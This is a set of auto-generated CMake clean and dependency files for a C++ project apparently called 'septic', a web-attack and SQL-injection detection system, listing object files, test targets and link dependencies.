# Empty dependencies file for test_metadata_stmts.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/test_metadata_stmts.dir/test_metadata_stmts.cpp.o"
  "CMakeFiles/test_metadata_stmts.dir/test_metadata_stmts.cpp.o.d"
  "test_metadata_stmts"
  "test_metadata_stmts.pdb"
  "test_metadata_stmts[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_metadata_stmts.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty compiler generated dependencies file for test_subquery_explain.
# This may be replaced when dependencies are built.

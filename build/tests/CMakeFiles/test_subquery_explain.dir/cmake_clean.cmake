file(REMOVE_RECURSE
  "CMakeFiles/test_subquery_explain.dir/test_subquery_explain.cpp.o"
  "CMakeFiles/test_subquery_explain.dir/test_subquery_explain.cpp.o.d"
  "test_subquery_explain"
  "test_subquery_explain.pdb"
  "test_subquery_explain[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_subquery_explain.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

file(REMOVE_RECURSE
  "CMakeFiles/test_prepared.dir/test_prepared.cpp.o"
  "CMakeFiles/test_prepared.dir/test_prepared.cpp.o.d"
  "test_prepared"
  "test_prepared.pdb"
  "test_prepared[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_prepared.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty dependencies file for test_qm_store.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/test_qm_store.dir/test_qm_store.cpp.o"
  "CMakeFiles/test_qm_store.dir/test_qm_store.cpp.o.d"
  "test_qm_store"
  "test_qm_store.pdb"
  "test_qm_store[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_qm_store.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty compiler generated dependencies file for test_id_generator.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/test_id_generator.dir/test_id_generator.cpp.o"
  "CMakeFiles/test_id_generator.dir/test_id_generator.cpp.o.d"
  "test_id_generator"
  "test_id_generator.pdb"
  "test_id_generator[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_id_generator.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

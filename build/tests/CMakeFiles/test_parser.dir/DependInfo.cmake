
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/test_parser.cpp" "tests/CMakeFiles/test_parser.dir/test_parser.cpp.o" "gcc" "tests/CMakeFiles/test_parser.dir/test_parser.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/septic/CMakeFiles/septic_core.dir/DependInfo.cmake"
  "/root/repo/build/src/web/CMakeFiles/septic_web.dir/DependInfo.cmake"
  "/root/repo/build/src/attacks/CMakeFiles/septic_attacks.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/septic_net.dir/DependInfo.cmake"
  "/root/repo/build/src/engine/CMakeFiles/septic_engine.dir/DependInfo.cmake"
  "/root/repo/build/src/storage/CMakeFiles/septic_storage.dir/DependInfo.cmake"
  "/root/repo/build/src/sqlcore/CMakeFiles/septic_sqlcore.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/septic_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")

file(REMOVE_RECURSE
  "CMakeFiles/test_item_stack.dir/test_item_stack.cpp.o"
  "CMakeFiles/test_item_stack.dir/test_item_stack.cpp.o.d"
  "test_item_stack"
  "test_item_stack.pdb"
  "test_item_stack[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_item_stack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

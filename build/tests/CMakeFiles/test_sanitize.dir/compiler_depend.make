# Empty compiler generated dependencies file for test_sanitize.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/test_sanitize.dir/test_sanitize.cpp.o"
  "CMakeFiles/test_sanitize.dir/test_sanitize.cpp.o.d"
  "test_sanitize"
  "test_sanitize.pdb"
  "test_sanitize[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_sanitize.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

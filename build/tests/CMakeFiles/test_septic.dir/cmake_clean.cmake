file(REMOVE_RECURSE
  "CMakeFiles/test_septic.dir/test_septic.cpp.o"
  "CMakeFiles/test_septic.dir/test_septic.cpp.o.d"
  "test_septic"
  "test_septic.pdb"
  "test_septic[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_septic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty compiler generated dependencies file for test_septic.
# This may be replaced when dependencies are built.

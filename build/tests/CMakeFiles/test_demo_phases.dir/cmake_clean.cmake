file(REMOVE_RECURSE
  "CMakeFiles/test_demo_phases.dir/test_demo_phases.cpp.o"
  "CMakeFiles/test_demo_phases.dir/test_demo_phases.cpp.o.d"
  "test_demo_phases"
  "test_demo_phases.pdb"
  "test_demo_phases[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_demo_phases.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

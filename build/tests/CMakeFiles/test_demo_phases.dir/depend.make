# Empty dependencies file for test_demo_phases.
# This may be replaced when dependencies are built.

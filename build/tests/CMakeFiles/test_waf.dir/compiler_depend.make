# Empty compiler generated dependencies file for test_waf.
# This may be replaced when dependencies are built.

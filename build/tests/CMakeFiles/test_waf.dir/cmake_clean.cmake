file(REMOVE_RECURSE
  "CMakeFiles/test_waf.dir/test_waf.cpp.o"
  "CMakeFiles/test_waf.dir/test_waf.cpp.o.d"
  "test_waf"
  "test_waf.pdb"
  "test_waf[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_waf.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty compiler generated dependencies file for test_detector_mutation.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/test_detector_mutation.dir/test_detector_mutation.cpp.o"
  "CMakeFiles/test_detector_mutation.dir/test_detector_mutation.cpp.o.d"
  "test_detector_mutation"
  "test_detector_mutation.pdb"
  "test_detector_mutation[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_detector_mutation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty compiler generated dependencies file for test_webapps.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/test_webapps.dir/test_webapps.cpp.o"
  "CMakeFiles/test_webapps.dir/test_webapps.cpp.o.d"
  "test_webapps"
  "test_webapps.pdb"
  "test_webapps[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_webapps.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

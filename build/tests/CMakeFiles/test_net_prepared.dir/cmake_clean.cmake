file(REMOVE_RECURSE
  "CMakeFiles/test_net_prepared.dir/test_net_prepared.cpp.o"
  "CMakeFiles/test_net_prepared.dir/test_net_prepared.cpp.o.d"
  "test_net_prepared"
  "test_net_prepared.pdb"
  "test_net_prepared[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_net_prepared.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty compiler generated dependencies file for test_net_prepared.
# This may be replaced when dependencies are built.

# Empty compiler generated dependencies file for test_transactions.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/test_transactions.dir/test_transactions.cpp.o"
  "CMakeFiles/test_transactions.dir/test_transactions.cpp.o.d"
  "test_transactions"
  "test_transactions.pdb"
  "test_transactions[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_transactions.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

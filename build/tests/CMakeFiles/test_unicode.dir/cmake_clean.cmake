file(REMOVE_RECURSE
  "CMakeFiles/test_unicode.dir/test_unicode.cpp.o"
  "CMakeFiles/test_unicode.dir/test_unicode.cpp.o.d"
  "test_unicode"
  "test_unicode.pdb"
  "test_unicode[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_unicode.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty compiler generated dependencies file for test_unicode.
# This may be replaced when dependencies are built.

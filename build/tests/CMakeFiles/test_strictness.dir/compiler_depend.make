# Empty compiler generated dependencies file for test_strictness.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/test_strictness.dir/test_strictness.cpp.o"
  "CMakeFiles/test_strictness.dir/test_strictness.cpp.o.d"
  "test_strictness"
  "test_strictness.pdb"
  "test_strictness[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_strictness.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

file(REMOVE_RECURSE
  "CMakeFiles/test_query_model.dir/test_query_model.cpp.o"
  "CMakeFiles/test_query_model.dir/test_query_model.cpp.o.d"
  "test_query_model"
  "test_query_model.pdb"
  "test_query_model[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_query_model.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty dependencies file for net_client.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/net_client.dir/net_client.cpp.o"
  "CMakeFiles/net_client.dir/net_client.cpp.o.d"
  "net_client"
  "net_client.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/net_client.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

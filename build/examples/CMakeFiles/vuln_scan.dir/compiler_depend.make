# Empty compiler generated dependencies file for vuln_scan.
# This may be replaced when dependencies are built.

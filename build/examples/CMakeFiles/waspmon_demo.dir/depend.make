# Empty dependencies file for waspmon_demo.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/waspmon_demo.dir/waspmon_demo.cpp.o"
  "CMakeFiles/waspmon_demo.dir/waspmon_demo.cpp.o.d"
  "waspmon_demo"
  "waspmon_demo.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/waspmon_demo.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

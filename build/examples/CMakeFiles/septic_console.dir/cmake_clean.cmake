file(REMOVE_RECURSE
  "CMakeFiles/septic_console.dir/septic_console.cpp.o"
  "CMakeFiles/septic_console.dir/septic_console.cpp.o.d"
  "septic_console"
  "septic_console.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_console.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

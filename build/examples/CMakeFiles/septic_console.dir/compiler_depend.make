# Empty compiler generated dependencies file for septic_console.
# This may be replaced when dependencies are built.

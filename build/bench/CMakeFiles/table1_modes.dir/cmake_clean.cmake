file(REMOVE_RECURSE
  "CMakeFiles/table1_modes.dir/table1_modes.cpp.o"
  "CMakeFiles/table1_modes.dir/table1_modes.cpp.o.d"
  "table1_modes"
  "table1_modes.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table1_modes.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty compiler generated dependencies file for table1_modes.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/detection_matrix.dir/detection_matrix.cpp.o"
  "CMakeFiles/detection_matrix.dir/detection_matrix.cpp.o.d"
  "detection_matrix"
  "detection_matrix.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/detection_matrix.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty dependencies file for detection_matrix.
# This may be replaced when dependencies are built.

# Empty compiler generated dependencies file for detection_matrix.
# This may be replaced when dependencies are built.

# Empty compiler generated dependencies file for micro_septic.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/micro_septic.dir/micro_septic.cpp.o"
  "CMakeFiles/micro_septic.dir/micro_septic.cpp.o.d"
  "micro_septic"
  "micro_septic.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/micro_septic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

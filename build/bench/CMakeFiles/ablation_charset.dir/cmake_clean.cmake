file(REMOVE_RECURSE
  "CMakeFiles/ablation_charset.dir/ablation_charset.cpp.o"
  "CMakeFiles/ablation_charset.dir/ablation_charset.cpp.o.d"
  "ablation_charset"
  "ablation_charset.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ablation_charset.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty dependencies file for ablation_charset.
# This may be replaced when dependencies are built.

# Empty dependencies file for scaling_browsers.
# This may be replaced when dependencies are built.

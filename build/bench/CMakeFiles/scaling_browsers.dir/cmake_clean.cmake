file(REMOVE_RECURSE
  "CMakeFiles/scaling_browsers.dir/scaling_browsers.cpp.o"
  "CMakeFiles/scaling_browsers.dir/scaling_browsers.cpp.o.d"
  "scaling_browsers"
  "scaling_browsers.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/scaling_browsers.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

file(REMOVE_RECURSE
  "CMakeFiles/ablation_strictness.dir/ablation_strictness.cpp.o"
  "CMakeFiles/ablation_strictness.dir/ablation_strictness.cpp.o.d"
  "ablation_strictness"
  "ablation_strictness.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ablation_strictness.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

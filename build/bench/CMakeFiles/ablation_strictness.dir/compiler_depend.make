# Empty compiler generated dependencies file for ablation_strictness.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "libseptic_sqlcore.a"
)


# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/sqlcore/ast.cpp" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/ast.cpp.o" "gcc" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/ast.cpp.o.d"
  "/root/repo/src/sqlcore/item.cpp" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/item.cpp.o" "gcc" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/item.cpp.o.d"
  "/root/repo/src/sqlcore/lexer.cpp" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/lexer.cpp.o" "gcc" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/lexer.cpp.o.d"
  "/root/repo/src/sqlcore/parser.cpp" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/parser.cpp.o" "gcc" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/parser.cpp.o.d"
  "/root/repo/src/sqlcore/value.cpp" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/value.cpp.o" "gcc" "src/sqlcore/CMakeFiles/septic_sqlcore.dir/value.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/septic_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")

file(REMOVE_RECURSE
  "CMakeFiles/septic_sqlcore.dir/ast.cpp.o"
  "CMakeFiles/septic_sqlcore.dir/ast.cpp.o.d"
  "CMakeFiles/septic_sqlcore.dir/item.cpp.o"
  "CMakeFiles/septic_sqlcore.dir/item.cpp.o.d"
  "CMakeFiles/septic_sqlcore.dir/lexer.cpp.o"
  "CMakeFiles/septic_sqlcore.dir/lexer.cpp.o.d"
  "CMakeFiles/septic_sqlcore.dir/parser.cpp.o"
  "CMakeFiles/septic_sqlcore.dir/parser.cpp.o.d"
  "CMakeFiles/septic_sqlcore.dir/value.cpp.o"
  "CMakeFiles/septic_sqlcore.dir/value.cpp.o.d"
  "libseptic_sqlcore.a"
  "libseptic_sqlcore.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_sqlcore.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

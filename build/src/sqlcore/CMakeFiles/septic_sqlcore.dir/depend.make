# Empty dependencies file for septic_sqlcore.
# This may be replaced when dependencies are built.

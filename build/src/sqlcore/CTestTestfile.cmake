# CMake generated Testfile for 
# Source directory: /root/repo/src/sqlcore
# Build directory: /root/repo/build/src/sqlcore
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.

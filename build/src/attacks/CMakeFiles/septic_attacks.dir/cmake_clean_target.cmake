file(REMOVE_RECURSE
  "libseptic_attacks.a"
)

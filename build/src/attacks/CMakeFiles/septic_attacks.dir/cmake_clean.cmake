file(REMOVE_RECURSE
  "CMakeFiles/septic_attacks.dir/corpus.cpp.o"
  "CMakeFiles/septic_attacks.dir/corpus.cpp.o.d"
  "CMakeFiles/septic_attacks.dir/scanner.cpp.o"
  "CMakeFiles/septic_attacks.dir/scanner.cpp.o.d"
  "libseptic_attacks.a"
  "libseptic_attacks.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_attacks.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

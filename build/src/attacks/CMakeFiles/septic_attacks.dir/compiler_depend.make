# Empty compiler generated dependencies file for septic_attacks.
# This may be replaced when dependencies are built.

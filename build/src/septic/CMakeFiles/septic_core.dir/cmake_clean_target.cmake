file(REMOVE_RECURSE
  "libseptic_core.a"
)

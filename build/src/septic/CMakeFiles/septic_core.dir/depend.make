# Empty dependencies file for septic_core.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/septic_core.dir/detector.cpp.o"
  "CMakeFiles/septic_core.dir/detector.cpp.o.d"
  "CMakeFiles/septic_core.dir/event_log.cpp.o"
  "CMakeFiles/septic_core.dir/event_log.cpp.o.d"
  "CMakeFiles/septic_core.dir/id_generator.cpp.o"
  "CMakeFiles/septic_core.dir/id_generator.cpp.o.d"
  "CMakeFiles/septic_core.dir/plugins/fileinc_plugin.cpp.o"
  "CMakeFiles/septic_core.dir/plugins/fileinc_plugin.cpp.o.d"
  "CMakeFiles/septic_core.dir/plugins/html_parser.cpp.o"
  "CMakeFiles/septic_core.dir/plugins/html_parser.cpp.o.d"
  "CMakeFiles/septic_core.dir/plugins/osci_plugin.cpp.o"
  "CMakeFiles/septic_core.dir/plugins/osci_plugin.cpp.o.d"
  "CMakeFiles/septic_core.dir/plugins/rce_plugin.cpp.o"
  "CMakeFiles/septic_core.dir/plugins/rce_plugin.cpp.o.d"
  "CMakeFiles/septic_core.dir/plugins/xss_plugin.cpp.o"
  "CMakeFiles/septic_core.dir/plugins/xss_plugin.cpp.o.d"
  "CMakeFiles/septic_core.dir/qm_store.cpp.o"
  "CMakeFiles/septic_core.dir/qm_store.cpp.o.d"
  "CMakeFiles/septic_core.dir/query_model.cpp.o"
  "CMakeFiles/septic_core.dir/query_model.cpp.o.d"
  "CMakeFiles/septic_core.dir/review.cpp.o"
  "CMakeFiles/septic_core.dir/review.cpp.o.d"
  "CMakeFiles/septic_core.dir/septic.cpp.o"
  "CMakeFiles/septic_core.dir/septic.cpp.o.d"
  "libseptic_core.a"
  "libseptic_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()


# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/septic/detector.cpp" "src/septic/CMakeFiles/septic_core.dir/detector.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/detector.cpp.o.d"
  "/root/repo/src/septic/event_log.cpp" "src/septic/CMakeFiles/septic_core.dir/event_log.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/event_log.cpp.o.d"
  "/root/repo/src/septic/id_generator.cpp" "src/septic/CMakeFiles/septic_core.dir/id_generator.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/id_generator.cpp.o.d"
  "/root/repo/src/septic/plugins/fileinc_plugin.cpp" "src/septic/CMakeFiles/septic_core.dir/plugins/fileinc_plugin.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/plugins/fileinc_plugin.cpp.o.d"
  "/root/repo/src/septic/plugins/html_parser.cpp" "src/septic/CMakeFiles/septic_core.dir/plugins/html_parser.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/plugins/html_parser.cpp.o.d"
  "/root/repo/src/septic/plugins/osci_plugin.cpp" "src/septic/CMakeFiles/septic_core.dir/plugins/osci_plugin.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/plugins/osci_plugin.cpp.o.d"
  "/root/repo/src/septic/plugins/rce_plugin.cpp" "src/septic/CMakeFiles/septic_core.dir/plugins/rce_plugin.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/plugins/rce_plugin.cpp.o.d"
  "/root/repo/src/septic/plugins/xss_plugin.cpp" "src/septic/CMakeFiles/septic_core.dir/plugins/xss_plugin.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/plugins/xss_plugin.cpp.o.d"
  "/root/repo/src/septic/qm_store.cpp" "src/septic/CMakeFiles/septic_core.dir/qm_store.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/qm_store.cpp.o.d"
  "/root/repo/src/septic/query_model.cpp" "src/septic/CMakeFiles/septic_core.dir/query_model.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/query_model.cpp.o.d"
  "/root/repo/src/septic/review.cpp" "src/septic/CMakeFiles/septic_core.dir/review.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/review.cpp.o.d"
  "/root/repo/src/septic/septic.cpp" "src/septic/CMakeFiles/septic_core.dir/septic.cpp.o" "gcc" "src/septic/CMakeFiles/septic_core.dir/septic.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/engine/CMakeFiles/septic_engine.dir/DependInfo.cmake"
  "/root/repo/build/src/sqlcore/CMakeFiles/septic_sqlcore.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/septic_common.dir/DependInfo.cmake"
  "/root/repo/build/src/storage/CMakeFiles/septic_storage.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")

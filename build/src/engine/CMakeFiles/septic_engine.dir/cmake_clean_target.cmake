file(REMOVE_RECURSE
  "libseptic_engine.a"
)

file(REMOVE_RECURSE
  "CMakeFiles/septic_engine.dir/database.cpp.o"
  "CMakeFiles/septic_engine.dir/database.cpp.o.d"
  "CMakeFiles/septic_engine.dir/eval.cpp.o"
  "CMakeFiles/septic_engine.dir/eval.cpp.o.d"
  "CMakeFiles/septic_engine.dir/executor.cpp.o"
  "CMakeFiles/septic_engine.dir/executor.cpp.o.d"
  "libseptic_engine.a"
  "libseptic_engine.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_engine.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

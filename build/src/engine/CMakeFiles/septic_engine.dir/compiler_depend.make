# Empty compiler generated dependencies file for septic_engine.
# This may be replaced when dependencies are built.

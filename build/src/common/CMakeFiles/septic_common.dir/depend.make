# Empty dependencies file for septic_common.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/septic_common.dir/hash.cpp.o"
  "CMakeFiles/septic_common.dir/hash.cpp.o.d"
  "CMakeFiles/septic_common.dir/log.cpp.o"
  "CMakeFiles/septic_common.dir/log.cpp.o.d"
  "CMakeFiles/septic_common.dir/string_util.cpp.o"
  "CMakeFiles/septic_common.dir/string_util.cpp.o.d"
  "CMakeFiles/septic_common.dir/unicode.cpp.o"
  "CMakeFiles/septic_common.dir/unicode.cpp.o.d"
  "libseptic_common.a"
  "libseptic_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

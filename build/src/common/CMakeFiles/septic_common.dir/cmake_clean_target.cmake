file(REMOVE_RECURSE
  "libseptic_common.a"
)

file(REMOVE_RECURSE
  "CMakeFiles/septic_web.dir/apps/addressbook.cpp.o"
  "CMakeFiles/septic_web.dir/apps/addressbook.cpp.o.d"
  "CMakeFiles/septic_web.dir/apps/refbase.cpp.o"
  "CMakeFiles/septic_web.dir/apps/refbase.cpp.o.d"
  "CMakeFiles/septic_web.dir/apps/tickets.cpp.o"
  "CMakeFiles/septic_web.dir/apps/tickets.cpp.o.d"
  "CMakeFiles/septic_web.dir/apps/waspmon.cpp.o"
  "CMakeFiles/septic_web.dir/apps/waspmon.cpp.o.d"
  "CMakeFiles/septic_web.dir/apps/zerocms.cpp.o"
  "CMakeFiles/septic_web.dir/apps/zerocms.cpp.o.d"
  "CMakeFiles/septic_web.dir/framework.cpp.o"
  "CMakeFiles/septic_web.dir/framework.cpp.o.d"
  "CMakeFiles/septic_web.dir/http.cpp.o"
  "CMakeFiles/septic_web.dir/http.cpp.o.d"
  "CMakeFiles/septic_web.dir/proxy.cpp.o"
  "CMakeFiles/septic_web.dir/proxy.cpp.o.d"
  "CMakeFiles/septic_web.dir/sanitize.cpp.o"
  "CMakeFiles/septic_web.dir/sanitize.cpp.o.d"
  "CMakeFiles/septic_web.dir/stack.cpp.o"
  "CMakeFiles/septic_web.dir/stack.cpp.o.d"
  "CMakeFiles/septic_web.dir/trainer.cpp.o"
  "CMakeFiles/septic_web.dir/trainer.cpp.o.d"
  "CMakeFiles/septic_web.dir/waf/crs_rules.cpp.o"
  "CMakeFiles/septic_web.dir/waf/crs_rules.cpp.o.d"
  "CMakeFiles/septic_web.dir/waf/rule.cpp.o"
  "CMakeFiles/septic_web.dir/waf/rule.cpp.o.d"
  "CMakeFiles/septic_web.dir/waf/transform.cpp.o"
  "CMakeFiles/septic_web.dir/waf/transform.cpp.o.d"
  "CMakeFiles/septic_web.dir/waf/waf.cpp.o"
  "CMakeFiles/septic_web.dir/waf/waf.cpp.o.d"
  "libseptic_web.a"
  "libseptic_web.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_web.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

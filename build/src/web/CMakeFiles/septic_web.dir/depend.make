# Empty dependencies file for septic_web.
# This may be replaced when dependencies are built.

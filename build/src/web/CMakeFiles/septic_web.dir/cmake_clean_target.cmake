file(REMOVE_RECURSE
  "libseptic_web.a"
)


# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/web/apps/addressbook.cpp" "src/web/CMakeFiles/septic_web.dir/apps/addressbook.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/apps/addressbook.cpp.o.d"
  "/root/repo/src/web/apps/refbase.cpp" "src/web/CMakeFiles/septic_web.dir/apps/refbase.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/apps/refbase.cpp.o.d"
  "/root/repo/src/web/apps/tickets.cpp" "src/web/CMakeFiles/septic_web.dir/apps/tickets.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/apps/tickets.cpp.o.d"
  "/root/repo/src/web/apps/waspmon.cpp" "src/web/CMakeFiles/septic_web.dir/apps/waspmon.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/apps/waspmon.cpp.o.d"
  "/root/repo/src/web/apps/zerocms.cpp" "src/web/CMakeFiles/septic_web.dir/apps/zerocms.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/apps/zerocms.cpp.o.d"
  "/root/repo/src/web/framework.cpp" "src/web/CMakeFiles/septic_web.dir/framework.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/framework.cpp.o.d"
  "/root/repo/src/web/http.cpp" "src/web/CMakeFiles/septic_web.dir/http.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/http.cpp.o.d"
